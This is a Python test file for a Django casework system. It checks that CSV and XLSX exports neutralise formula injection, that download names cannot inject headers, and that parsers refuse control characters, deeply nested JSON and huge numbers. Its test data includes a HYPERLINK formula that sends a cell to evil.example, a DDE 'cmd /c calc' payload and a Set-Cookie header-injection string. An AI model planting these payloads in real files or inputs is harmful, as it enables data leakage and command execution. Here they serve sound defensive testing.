"""Issue 14, hostile input against exports, downloads and parsers: no server error, no formula, no full ID
number in the export log, and every refusal with its field or path."""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from aid.models import FundReceipt
from beneficiaries.id_numbers import mask, sample_id_number
from beneficiaries.models import Household, Person
from casework.bundle import import_bundle
from casework.choices import Role
from casework.exports import as_csv, as_xlsx, content_disposition
from casework.models import ExportLog, Organisation
from notices.models import Notice
from tests.factories import HouseholdFactory, NoticeEntryFactory, NoticeFactory, PersonFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def api_for(user):
    client = APIClient()
    client.force_authenticate(user)
    return client


def workbook(response):
    return load_workbook(io.BytesIO(response.content))


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def disposition_name(response):
    """The file name the client sees, from the RFC 6266 ``filename*`` parameter."""
    from urllib.parse import unquote

    header = response["Content-Disposition"]
    assert "\r" not in header and "\n" not in header
    assert header.startswith('attachment; filename="') and header.count('"') == 2
    return unquote(header.split("filename*=UTF-8''", 1)[1])


# --- the export log -------------------------------------------------------------------------------


def test_a_superuser_without_a_unit_exports_and_is_logged(tree, client):
    HouseholdFactory(file_no="ZZ-001", organisation=tree.county_a)
    client.force_login(UserFactory(organisation=None, is_superuser=True, is_staff=True, username="root"))
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse("households-export", kwargs={"fmt": fmt}))
        assert response.status_code == 200
    assert csv_rows(client.get(reverse("households-export", kwargs={"fmt": "csv"})))[1][0] == "ZZ-001"
    logs = ExportLog.objects.order_by("id")
    assert [(log.user_name, log.organisation, log.rows) for log in logs] == [("root", None, 1)] * 3
    assert ExportLog.history.count() == 3


def test_the_export_log_keeps_filters_with_id_numbers_masked(tree, make_user, client):
    number = sample_id_number(7)
    client.force_login(make_user(tree.city_a, Role.CASEWORKER))
    client.get(reverse("households-export", kwargs={"fmt": "csv"}), {"file_no": f"查 {number} 户", "org": "410181"})
    log = ExportLog.objects.get()
    assert log.filters == {"file_no": f"查 {mask(number)} 户", "org": "410181"}
    assert number not in json.dumps(list(ExportLog.history.values("filters")), ensure_ascii=False)
    page = client.get(reverse("export-log-list")).content.decode()
    assert mask(number) in page and number not in page


# --- safe cells -----------------------------------------------------------------------------------


def test_formulas_are_text_and_negative_numbers_stay_numbers():
    rows = [[HOSTILE, "+1", "-1", "@SUM(A1)", "\tx", "#N/A", -5, 12.5, "普通"]]
    sheet = load_workbook(io.BytesIO(as_xlsx("t", list("ABCDEFGHI"), rows))).active
    cells = list(sheet[2])
    assert [c.value for c in cells] == [HOSTILE, "+1", "-1", "@SUM(A1)", "\tx", "#N/A", -5, 12.5, "普通"]
    assert [c.data_type for c in cells] == ["s"] * 6 + ["n", "n", "s"]
    assert all(c.quotePrefix for c in cells[:5])
    assert csv.reader(io.StringIO(as_csv(list("ABCDEFGHI"), rows).decode("utf-8-sig"))).__next__() == list("ABCDEFGHI")
    line = list(csv.reader(io.StringIO(as_csv(list("ABCDEFGHI"), rows).decode("utf-8-sig"))))[1]
    assert line == ["'" + HOSTILE, "'+1", "'-1", "'@SUM(A1)", "'\tx", "#N/A", "-5", "12.5", "普通"]


def test_list_exports_never_run_a_stored_formula_nor_fail_on_a_control_character(tree, make_user, client):
    household = HouseholdFactory(file_no="ZZ-001", organisation=tree.city_a)
    person = PersonFactory(household=household, name="王建国", relationship="head", seq=1)
    # Stored before the input rule existed: written past validation.
    Person.objects.filter(pk=person.pk).update(name=HOSTILE + "\x01\x1f")
    client.force_login(make_user(tree.city_a, Role.CASEWORKER))
    response = client.get(reverse("persons-export", kwargs={"fmt": "xlsx"}))
    assert response.status_code == 200
    cell = workbook(response).active["A2"]
    assert (cell.value, cell.data_type) == (HOSTILE, "s")
    response = client.get(reverse("persons-export", kwargs={"fmt": "csv"}))
    assert csv_rows(response)[1][0] == "'" + HOSTILE


def test_the_returns_workbook_keeps_typed_text_as_text(tree, make_user, client):
    client.force_login(make_user(tree.province, Role.STATISTICS_OFFICER))
    query = {"attachment": 3, "org": "410000", "year": 2014, "cutoff": "2014-08-31", "preparer": "=1+1\x01"}
    response = client.get(reverse("stats-return-xlsx"), query)
    assert response.status_code == 200
    cells = [c for row in workbook(response)["报表"].iter_rows() for c in row if c.value == "=1+1"]
    assert [c.data_type for c in cells] == ["s"]
    assert disposition_name(response) == "return-a3-410000-2014-08-31.xlsx"


def test_the_roster_report_of_a_file_named_with_a_colon_downloads_with_its_cells_as_text(tree, make_user, client):
    from rosters import services

    user = make_user(tree.city_a)
    text = f"姓名,身份证号码,服务类型,服务日期\n=cmd|' /c calc'!A0,{sample_id_number(61)},职业介绍,2024年5月7日\n"
    roster_import = services.roster_upload(
        acting_user=user,
        organisation=tree.city_a,
        kind="services",
        file_name='服务:"名单".csv',
        content=text.encode("utf-8"),
    )
    services.roster_check(roster_import, acting_user=user)
    client.force_login(user)
    response = client.get(reverse("rosters:report", args=[roster_import.pk]))
    assert response.status_code == 200
    assert disposition_name(response) == '服务:"名单"-检查结果.xlsx'
    book = workbook(response)
    cell = book.worksheets[0]["A2"]
    assert (cell.value, cell.data_type) == ("=cmd|' /c calc'!A0", "s")


# --- download names -------------------------------------------------------------------------------


def test_download_names_are_encoded_and_cannot_forge_the_header():
    header = content_disposition('a"\r\nSet-Cookie: x=1;.pdf')
    assert "\r" not in header and "\n" not in header and header.count('"') == 2
    assert header.endswith("filename*=UTF-8''a%22%0D%0ASet-Cookie%3A%20x%3D1%3B.pdf")


def test_notice_downloads_are_named_by_the_number_not_a_stored_ref(tree, make_user, client):
    reviewer = make_user(tree.city_a, Role.REVIEWER)
    notice = NoticeFactory(organisation=tree.city_a, ref="N1")
    NoticeEntryFactory(notice=notice)
    Notice.objects.filter(pk=notice.pk).update(ref='N"1\r\nX')  # stored before refs had a character set
    client.force_login(reviewer)
    web = client.get(reverse("notices:pdf", args=[notice.pk]))
    # Even a ref with quotes and line breaks never reaches the header: the file is named by the short number.
    assert web.status_code == 200 and disposition_name(web) == f"公示-{notice.number}.pdf"
    api = api_for(reviewer).get(f"/api/v1/notices/{notice.pk}/pdf/")
    assert api.status_code == 200 and disposition_name(api) == f"notice-{notice.number}.pdf"
    assert "\r" not in web["Content-Disposition"] and "\r" not in api["Content-Disposition"]


@pytest.mark.parametrize("ref", ['N"1', "N\r\n1", "a/b", "x:y", "N 1", "-N1"])
def test_codes_and_refs_have_a_strict_character_set(tree, make_user, ref):
    user = make_user(tree.city_a)
    response = api_for(user).post(
        "/api/v1/fund-receipts/",
        {**{k: v for k, v in BUNDLE_RECEIPT.items() if k != "org"}, "organisation": "410100", "ref": ref, "amount": 1},
        format="json",
    )
    assert response.status_code == 400 and list(response.json()) == ["ref"]
    notice = {
        "ref": ref,
        "org": "410100",
        "posted_at": "社区",
        "starts_on": "2014-06-01",
        "ends_on": "2014-06-07",
        "entries": [],
    }
    result = import_bundle(
        {
            "format": "casework-bundle/1",
            "organisations": [{"code": ref, "name": "x", "level": "grassroots", "parent": "410100"}],
            "institutions": [{"code": ref, "name": "x", "org": "410100"}],
            "notices": [notice],
        },
        reason="test",
    )
    paths = {path for path, _message in result.errors}
    assert {"organisations[0].code", "institutions[0].code", "notices[0].ref"} <= paths
    assert Organisation.objects.count() == 6 and not Notice.objects.exists() and not FundReceipt.objects.exists()


def test_generated_and_typed_refs_pass(tree):
    from casework.models import new_ref
    from casework.validators import code_validator

    for ref in (new_ref(), "GRANT-2014-001", "S1-G1", "grant-0f3a", "金秋.2014_01", "410181"):
        code_validator(ref)


# --- control characters ---------------------------------------------------------------------------


def test_control_characters_are_refused_by_the_forms_the_api_the_admin_and_bundles(tree, make_user, client):
    user = make_user(tree.city_a, Role.ADMINISTRATOR)
    client.force_login(user)
    page = client.post(
        reverse("household-create"),
        {"file_no": "H\x01", "organisation": tree.city_a.code, "kind": "worker", "applied_on": "2014-01-01"},
    )
    assert "不能包含控制字符" in page.content.decode()
    api = api_for(user).post(
        "/api/v1/fund-receipts/",
        {
            "organisation": "410100",
            "programme": "employment",
            "source": "union",
            "received_on": "2014-03-01",
            "amount": "10",
            "note": "备注\x07",
        },
        format="json",
    )
    assert api.status_code == 400 and "不能包含控制字符" in str(api.json()["note"])
    result = import_bundle(
        {
            "format": "casework-bundle/1",
            "persons": [{"id_number": sample_id_number(8), "name": "张\u0001三", "org": "410100"}],
        },
        acting_user=user,
        reason="test",
    )
    assert [path for path, _message in result.errors] == ["persons[0].name"]
    superuser = UserFactory(organisation=None, is_superuser=True, is_staff=True)
    client.force_login(superuser)
    admin = client.post(
        reverse("admin:casework_organisation_add"),
        {"code": "410199", "name": "单位\x01", "level": "grassroots", "parent": tree.city_a.pk, "reason": "x"},
    )
    assert admin.status_code == 200 and "不能包含控制字符" in admin.content.decode()
    assert not Household.objects.exists() and not FundReceipt.objects.exists() and not Person.objects.exists()
    assert not Organisation.objects.filter(code="410199").exists()


def test_long_free_text_keeps_its_line_breaks(tree, make_user):
    from casework.validators import no_control_characters_in_text

    no_control_characters_in_text("第一行\r\n第二行\t说明")


# --- parsers, numbers and dates -------------------------------------------------------------------


def test_deeply_nested_json_is_a_400_on_the_api_and_the_import_page(tree, make_user, client):
    user = make_user(tree.city_a)
    api = api_for(user)
    body = "[" * 100_000
    for url in ("/api/v1/fund-receipts/", "/api/v1/bundles/import/", "/api/v1/households/"):
        response = api.post(url, body, content_type="application/json")
        assert response.status_code == 400, url
        assert "嵌套层数过多" in response.json()["detail"]
    client.force_login(user)
    page = client.post(reverse("bundle-import"), {"file": SimpleUploadedFile("b.json", body.encode())})
    assert page.status_code == 200 and "嵌套层数过多" in page.content.decode()


BUNDLE_RECEIPT = {
    "ref": "R1",
    "org": "410100",
    "programme": "employment",
    "source": "union",
    "received_on": "2014-03-01",
}


@pytest.mark.parametrize("amount", ["1e30", "NaN", "Infinity", "-Infinity", "1000000000000", 1e300, "1e-30"])
def test_amounts_out_of_range_are_refused_with_their_path(tree, make_user, amount):
    user = make_user(tree.city_a)
    result = import_bundle(
        {"format": "casework-bundle/1", "fund_receipts": [{**BUNDLE_RECEIPT, "amount": amount}]},
        acting_user=user,
        reason="test",
    )
    assert [path for path, _message in result.errors] == ["fund_receipts[0].amount"]
    response = api_for(user).post(
        "/api/v1/fund-receipts/",
        {**{k: v for k, v in BUNDLE_RECEIPT.items() if k != "org"}, "organisation": "410100", "amount": amount},
        format="json",
    )
    assert response.status_code == 400 and list(response.json()) == ["amount"]
    assert not FundReceipt.objects.exists()


def test_hardship_reasons_must_be_words(tree, make_user):
    user = make_user(tree.city_a)
    household = {"file_no": "H1", "org": "410100", "kind": "worker", "applied_on": "2014-01-05"}
    result = import_bundle(
        {"format": "casework-bundle/1", "households": [{**household, "hardship_reasons": [{"a": 1}]}]},
        acting_user=user,
        reason="test",
    )
    assert [path for path, _message in result.errors] == ["households[0].hardship_reasons"]
    response = api_for(user).post(
        "/api/v1/households/",
        {
            "file_no": "H1",
            "organisation": "410100",
            "kind": "worker",
            "applied_on": "2014-01-05",
            "hardship_reasons": [{"a": 1}],
        },
        format="json",
    )
    assert response.status_code == 400 and "hardship_reasons" in response.json()
    assert not Household.objects.exists()


def test_a_notice_period_past_the_last_date_is_refused(tree, make_user, client):
    from tests.test_notices_services import Families

    reviewer = make_user(tree.city_a, Role.REVIEWER)
    person = Families(reviewer).new_family_member(tree.city_a, "王小明", "HA-1")
    response = api_for(reviewer).post(
        "/api/v1/notices/",
        {
            "organisation": "410100",
            "posted_at": "社区",
            "starts_on": "9999-12-30",
            "period_days": 366,
            "entries_input": [{"person": person.pk, "amount": "100"}],
        },
        format="json",
    )
    assert response.status_code == 400 and "period_days" in response.json()
    client.force_login(reviewer)
    page = client.post(
        reverse("notices:build") + "?org=410100",
        {"posted_at": "社区", "starts_on": "9999-12-30", "period_days": 366, f"amount_{person.pk}": "100"},
    )
    assert page.status_code == 400 and "公示期超出了可以记录的日期范围" in page.content.decode()
    # A bundle names both ends of the period: the last day that exists is accepted as it is.
    last = {"ref": "N1", "org": "410100", "posted_at": "社区", "starts_on": "9999-12-30", "ends_on": "9999-12-31"}
    result = import_bundle(
        {"format": "casework-bundle/1", "notices": [{**last, "entries": []}]},
        acting_user=reviewer,
        reason="test",
        dry_run=True,
    )
    assert result.ok and result.counts["notices"]["created"] == 1
    assert not Notice.objects.exists()


def test_a_roster_amount_out_of_range_is_refused_on_its_cell(tree, make_user, settings):
    from rosters.models import Status
    from rosters.templates import KINDS, template_bytes
    from tests.test_rosters_import import problems, run

    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    book = load_workbook(io.BytesIO(template_bytes(KINDS["funds"])))
    book["筹集资金"]["D2"] = "1e30"
    book["使用资金"]["D2"] = "10000000000000"
    buffer = io.BytesIO()
    book.save(buffer)
    roster_import = run(buffer.getvalue(), "funds", make_user(tree.city_a), tree.city_a)
    assert roster_import.status == Status.REFUSED
    assert [p[:3] for p in problems(roster_import)] == [("筹集资金", 2, "金额(元)"), ("使用资金", 2, "金额(元)")]
    exponent, too_large = (p[3] for p in problems(roster_import))
    assert "1e30" in exponent  # exponent notation is refused on its cell by the roster conversion
    assert "过大" in too_large, too_large
    assert not FundReceipt.objects.exists()
